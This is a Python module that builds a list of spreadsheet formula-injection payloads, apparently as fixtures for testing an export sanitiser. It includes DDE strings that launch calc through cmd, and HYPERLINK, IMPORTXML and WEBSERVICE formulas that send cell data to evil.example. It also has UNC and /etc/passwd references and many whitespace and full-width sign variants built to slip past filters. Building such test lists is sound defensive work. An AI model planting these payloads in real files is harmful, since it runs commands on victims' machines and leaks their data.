"""Texts that somebody writes into an order so that a spreadsheet runs, opens or fetches something."""

from itertools import product

_SIGNS = "=+-@＝＋－＠"
_BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\u2060 ",
    "'",
    "''",
    '"',
)
_BODIES = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"看")',
    'IMPORTXML("http://evil.example","//a")',
    "1+1",
    "SUM(1,1)*cmd|' /C calc'!A0",
)
_OTHERS = (
    "{=SUM(A1:A9)}",
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "%0A-3+3+cmd|' /C calc'!D2",
    ";=1+1",
    '",=1+1,"',
    "甲\n=1+1",
    "甲\r=1+1",
    "甲\r\n=1+1\r\n@SUM(A1)",
    "甲\t=1+1",
    '甲",\r\n"=1+1',
    "http://evil.example/",
    "https://evil.example/?a=1",
    "ftp://evil.example/x",
    "mailto:evil@example.cn",
    "internal:Sheet1!A1",
    "external:\\\\evil\\x.xlsx",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "|cmd",
    "'=1+1",
    "''=1+1",
    "=",
    "==1",
    "@",
    "\t",
)
PAYLOADS = tuple(
    dict.fromkeys(
        (*(f"{before}{sign}{body}" for before, sign, body in product(_BEFORE, _SIGNS, _BODIES)), *_OTHERS)
    )
)
